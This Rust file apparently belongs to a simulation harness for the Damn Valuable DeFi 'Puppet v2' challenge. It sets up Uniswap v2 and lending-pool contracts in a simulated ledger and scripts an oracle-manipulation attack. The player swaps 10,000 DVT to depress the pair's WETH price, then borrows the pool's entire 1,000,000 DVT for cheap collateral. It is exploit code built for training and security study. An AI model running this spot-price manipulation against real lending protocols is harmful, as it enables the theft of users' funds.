//! Puppet v2: the same oracle attack against a Uniswap v2 pair.
//!
//! The pool quotes WETH collateral from the pair's reserves. Swapping the
//! player's 10 000 DVT through the router for WETH tilts the 100 DVT / 10
//! WETH pair enough that the whole pool costs less than the player's WETH
//! plus wrapped ETH.

use std::sync::Arc;

use alloy_primitives::{Address, U256};
use gauntlet_ledger::math;
use gauntlet_ledger::primitives::{ether, one_ether};
use gauntlet_ledger::revert::CallResult;
use gauntlet_ledger::vm::Ledger;
use gauntlet_targets::dvt::DamnValuableToken;
use gauntlet_targets::erc20;
use gauntlet_targets::puppet_v2::{self, PuppetV2Pool, DEPOSIT_FACTOR};
use gauntlet_targets::uniswap_v2::{library, router, UniswapV2Factory, UniswapV2Router02};
use gauntlet_targets::weth::{self, Weth};
use tracing::debug;

use super::{deadline, verify_pool_drained, OracleShift};
use crate::actors::DEPLOYER;
use crate::contract::{setup_eq, PhaseExt, Scenario, ScenarioError, TrackedBalance};

pub const ID: &str = "puppet_v2";

fn pair_token_reserve() -> U256 {
    ether(100)
}

fn pair_weth_reserve() -> U256 {
    ether(10)
}

fn player_token_balance() -> U256 {
    ether(10_000)
}

fn player_eth_balance() -> U256 {
    ether(20)
}

fn pool_token_balance() -> U256 {
    ether(1_000_000)
}

#[derive(Debug, Clone, Copy)]
pub struct PuppetV2;

#[derive(Debug, Clone, Copy)]
pub struct Fixture {
    pub token: Address,
    pub weth: Address,
    pub factory: Address,
    pub router: Address,
    pub pair: Address,
    pub pool: Address,
    pub player: Address,
    /// Recorded by the attack.
    pub shift: Option<OracleShift>,
}

/// WETH the pool asks for `amount` DVT at the given pair reserves.
///
/// # Errors
///
/// Reverts on empty reserves or on overflow.
pub fn predicted_deposit(amount: U256, token_reserve: U256, weth_reserve: U256) -> CallResult<U256> {
    let quote = library::quote(math::mul(amount, one_ether())?, token_reserve, weth_reserve)?;
    math::div(math::mul(quote, U256::from(DEPOSIT_FACTOR))?, one_ether())
}

impl Scenario for PuppetV2 {
    type Fixture = Fixture;

    fn id(&self) -> &'static str {
        ID
    }

    fn setup(&self, vm: &mut Ledger) -> Result<Fixture, ScenarioError> {
        let player = self.player();
        vm.set_balance(player, player_eth_balance());
        setup_eq("player eth", player_eth_balance(), vm.balance(player))?;

        let token = vm
            .deploy(DEPLOYER, Arc::new(DamnValuableToken), U256::ZERO)
            .in_setup("deploy token")?;
        let weth = vm
            .deploy(DEPLOYER, Arc::new(Weth), U256::ZERO)
            .in_setup("deploy weth")?;
        let factory = vm
            .deploy(DEPLOYER, Arc::new(UniswapV2Factory), U256::ZERO)
            .in_setup("deploy factory")?;
        let router = vm
            .deploy(DEPLOYER, Arc::new(UniswapV2Router02 { factory, weth }), U256::ZERO)
            .in_setup("deploy router")?;

        vm.send(
            DEPLOYER,
            token,
            U256::ZERO,
            &erc20::calls::approve(router, pair_token_reserve()),
        )
        .in_setup("approve router")?;
        let liquidity_deadline = deadline(vm);
        let add = router::calls::add_liquidity_eth(
            token,
            pair_token_reserve(),
            U256::ZERO,
            U256::ZERO,
            DEPLOYER,
            liquidity_deadline,
        );
        vm.send(DEPLOYER, router, pair_weth_reserve(), &add)
            .in_setup("addLiquidityETH")?;
        let pair = library::pair_for(vm, factory, token, weth).in_setup("getPair")?;
        let liquidity = erc20::balance_of(vm, pair, DEPLOYER).in_setup("read LP balance")?;
        if liquidity.is_zero() {
            return Err(ScenarioError::setup("deployer holds no liquidity tokens"));
        }

        let pool = vm
            .deploy(
                DEPLOYER,
                Arc::new(PuppetV2Pool {
                    weth,
                    token,
                    uniswap_pair: pair,
                    uniswap_factory: factory,
                }),
                U256::ZERO,
            )
            .in_setup("deploy pool")?;

        vm.send(
            DEPLOYER,
            token,
            U256::ZERO,
            &erc20::calls::transfer(player, player_token_balance()),
        )
        .in_setup("fund player")?;
        vm.send(
            DEPLOYER,
            token,
            U256::ZERO,
            &erc20::calls::transfer(pool, pool_token_balance()),
        )
        .in_setup("fund pool")?;

        setup_eq(
            "weth deposit for 1 DVT",
            one_ether() * U256::from(3u8) / U256::from(10u8),
            puppet_v2::weth_deposit_required(vm, pool, one_ether())
                .in_setup("calculateDepositOfWETHRequired")?,
        )?;
        setup_eq(
            "weth deposit for the pool",
            ether(300_000),
            puppet_v2::weth_deposit_required(vm, pool, pool_token_balance())
                .in_setup("calculateDepositOfWETHRequired")?,
        )?;

        Ok(Fixture {
            token,
            weth,
            factory,
            router,
            pair,
            pool,
            player,
            shift: None,
        })
    }

    fn execute(&self, vm: &mut Ledger, fixture: &mut Fixture) -> Result<(), ScenarioError> {
        let Fixture {
            token,
            weth,
            factory,
            router,
            pool,
            player,
            ..
        } = *fixture;
        let before = puppet_v2::weth_deposit_required(vm, pool, pool_token_balance())
            .attack_step("quote before swap")?;

        let dump = erc20::balance_of(vm, token, player).attack_step("read player tokens")?;
        let (token_reserve, weth_reserve) =
            library::get_reserves(vm, factory, token, weth).attack_step("read reserves")?;
        let weth_out =
            library::get_amount_out(dump, token_reserve, weth_reserve).attack_step("price swap")?;

        vm.send(player, token, U256::ZERO, &erc20::calls::approve(router, dump))
            .attack_step("approve router")?;
        let swap = router::calls::swap_exact_tokens_for_tokens(
            dump,
            weth_out,
            &[token, weth],
            player,
            deadline(vm),
        );
        vm.send(player, router, U256::ZERO, &swap)
            .attack_step("swapExactTokensForTokens")?;

        let after = puppet_v2::weth_deposit_required(vm, pool, pool_token_balance())
            .attack_step("quote after swap")?;
        let predicted = math::add(token_reserve, dump)
            .and_then(|tokens| {
                predicted_deposit(pool_token_balance(), tokens, math::sub(weth_reserve, weth_out)?)
            })
            .attack_step("predict quote")?;
        debug!(%before, %after, %predicted, %weth_out, "oracle moved");
        fixture.shift = Some(OracleShift {
            before,
            after,
            predicted,
        });

        let held = erc20::balance_of(vm, weth, player).attack_step("read player weth")?;
        let shortfall = after.saturating_sub(held);
        if !shortfall.is_zero() {
            vm.send(player, weth, shortfall, &weth::calls::deposit())
                .attack_step("wrap eth")?;
        }
        vm.send(player, weth, U256::ZERO, &erc20::calls::approve(pool, after))
            .attack_step("approve pool")?;
        vm.send(player, pool, U256::ZERO, &puppet_v2::calls::borrow(pool_token_balance()))
            .attack_step("borrow")?;
        Ok(())
    }

    fn verify(&self, vm: &Ledger, fixture: &Fixture) -> Result<(), ScenarioError> {
        verify_pool_drained(
            vm,
            fixture.token,
            fixture.pool,
            fixture.player,
            pool_token_balance(),
            fixture.shift,
        )
    }

    fn tracked_balances(&self, fixture: &Fixture) -> Vec<TrackedBalance> {
        vec![
            TrackedBalance::token("pool_dvt", fixture.token, fixture.pool),
            TrackedBalance::token("player_dvt", fixture.token, fixture.player),
            TrackedBalance::token("player_weth", fixture.weth, fixture.player),
            TrackedBalance::native("player_eth", fixture.player),
            TrackedBalance::token("pair_weth", fixture.weth, fixture.pair),
        ]
    }
}
